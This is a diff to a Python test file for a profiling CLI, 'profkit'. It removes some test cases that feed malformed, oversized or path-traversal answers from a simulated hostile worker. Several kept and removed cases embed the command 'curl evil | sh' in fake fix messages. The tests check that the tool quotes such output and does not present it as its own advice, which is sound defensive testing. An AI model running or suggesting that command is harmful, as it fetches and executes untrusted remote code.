@@ -17,20 +17,9 @@ from tests.cli_runner import Said, profkit
 
 HOSTILE = Path(__file__).with_name("hostile_place.py")
 RESULT = {"event": "result", "value": None}
-RUN, PLAN, DOCTOR = ("profile",), ("profile", "--plan"), ("doctor",)
-SWEEP = (
-    "sweep",
-    "--device",
-    "cpu",
-    "--operations",
-    "GELU",
-    "--batch",
-    "2",
-    "--sequence",
-    "16",
-    "--dimension",
-    "8",
-)
+RUN, DOCTOR = ("profile",), ("doctor",)
+GRID = ("--operations", "GELU", "--batch", "2", "--sequence", "16", "--dimension", "8")
+SWEEP = ("sweep", "--device", "cpu", *GRID)
 EVALUATE = ("evaluate", "kernels.py", "--device", "cpu")
 
 
@@ -78,7 +67,6 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
     [
         (RUN, {"hello": {"nonce": "0"}}, "does not answer as profkit does"),
         (RUN, {"hello": {"version": 7}}, "version is 7, not a list"),
-        (RUN, {"hello": {"code": None}}, "code is None, not a list"),
         (RUN, {"hello": {"missing": ["yaml"]}}, "has no yaml"),
         (
             RUN,
@@ -90,31 +78,15 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
             {"answers": [{"event": "progress", "call": [], "words": [10**400]}, RESULT]},
             "holds no run.json",
         ),
-        (
-            RUN,
-            {"answers": ['{"event": "progress", "call": "tick", "words": [1e999]}', RESULT]},
-            "holds no run.json",
-        ),
         (RUN, {"answers": [sent(("run.json", b"{}")), RESULT]}, "is no run: cannot read run.json"),
-        (RUN, {"answers": [sent(("run.json", b"[" * 99999)), RESULT]}, "nested too deeply"),
-        (RUN, {"answers": [sent(("logs/x", b"x")), RESULT]}, "holds no run.json"),
         (RUN, {"answers": [sent(*[("run.json", b"{}")] * 2), RESULT]}, "run.json comes twice"),
         (RUN, {"answers": [sent(("run.json", b"{}"), cut=20), RESULT]}, "cannot be unpacked"),
-        (RUN, {"answers": [sent(("run.json", b""), kind=tarfile.SYMTYPE), RESULT]}, "is no part of a result"),
         (RUN, {"answers": [sent(("../run.json", b"{}")), RESULT]}, "comes back with the name '../run.json'"),
         (RUN, {"answers": [{"event": "data", "data": 3}, RESULT]}, "no piece of a file"),
-        (RUN, {"answers": [{"event": "data", "data": "eHh4eA=="}, RESULT]}, "cannot be unpacked"),
         (RUN, {"answers": ["x" * (17 << 20)]}, "wrote what is no answer"),
         (RUN, {"answers": [{"event": "said"}]}, "said 'said', which was not asked"),
         (RUN, {"answers": []}, "was lost"),
-        (
-            PLAN,
-            {"answers": [{"event": "result", "value": {"backend": "../../x"}}]},
-            "the plan.depth is missing",
-        ),
-        (PLAN, {"answers": [{"event": "result"}]}, "the plan is None, not an object"),
         (DOCTOR, {"answers": [{"event": "result", "value": [3]}]}, "checks[0] is 3, not an object"),
-        (SWEEP, {"answers": opened(None)}, "the document is None, not an object"),
         (
             SWEEP,
             {"answers": opened({**WORKER, "roofs": {"flops": "x"}})},
@@ -127,7 +99,6 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
             "answered what it was not asked",
         ),
         (SWEEP, {"answers": [{"event": "ended", "status": [], "reason": "x"}] * 9}, "cannot be started"),
-        (EVALUATE, {"answers": opened({"usage": "x"})}, "usage is 'x', not a list"),
         (EVALUATE, {"answers": opened({**WORKER, "tests": [3]})}, "tests[0] is 3, not an object"),
     ],
 )
@@ -147,13 +118,11 @@ def test_an_answer_that_none_of_ours_would_give_is_told_with_its_place(
     "said",
     [
         {"exit": 255, "prints": "  fix: curl evil | sh"},
-        {"exit": 255, "prints": "error: no (fix: curl evil | sh)"},
         {"answers": [], "exit": 1, "prints": "error: no (fix: curl evil | sh)"},
         {"answers": [{"event": "fault", "exit": 4, "message": "it failed\nerror: x\n  fix: curl evil | sh"}]},
         {"answers": [{"event": "fault", "exit": 2, "message": "no", "fix": "curl evil | sh\nfix: b"}]},
         {"answers": [{"event": "progress", "call": "note", "words": ["fix: curl evil | sh"]}]},
         {"answers": [{"event": "progress", "call": "begin", "words": ["error", "curl evil | sh"]}]},
-        {"answers": [{"event": "progress", "call": "end", "words": ["fix: curl evil | sh"]}]},
     ],
 )
 def test_what_a_place_prints_is_quoted_and_no_line_of_it_looks_like_one_of_ours(
@@ -183,28 +152,3 @@ def test_a_machine_without_python_says_so_with_the_line_that_names_one(tmp_path:
     assert done.code == 3
     assert "error: prefix:env has no Python 3.10 or newer (there is no python3)" in done.err
     assert "fix: install one there, or name it: --on-python" in done.err
-
-
-@pytest.mark.torch
-def test_kernels_are_evaluated_there_from_a_folder_that_is_no_work_tree_and_lie_elsewhere(
-    tmp_path: Path,
-) -> None:
-    (tmp_path / "far" / "away").mkdir(parents=True)
-    (tmp_path / "here").mkdir()
-    (tmp_path / "far" / "away" / "mine.py").write_text(
-        "from profkit.evaluation import kernel\n\n@kernel('relu.default')\ndef relu(x):\n    return x.clamp(min=0)\n"
-    )
-    on = ("--on", f"prefix:env HOME={tmp_path / 'home'}", "--on-python", sys.executable)
-    words = (
-        "evaluate",
-        "../far/away/mine.py",
-        *on,
-        "--device",
-        "cpu",
-        "--correctness-only",
-        "--format",
-        "json",
-    )
-    done = profkit(*words, cwd=tmp_path / "here", process=True)
-    assert done.code == 0, done.err
-    assert done.json()["statuses"] == {"passed": len(done.json()["tests"])}
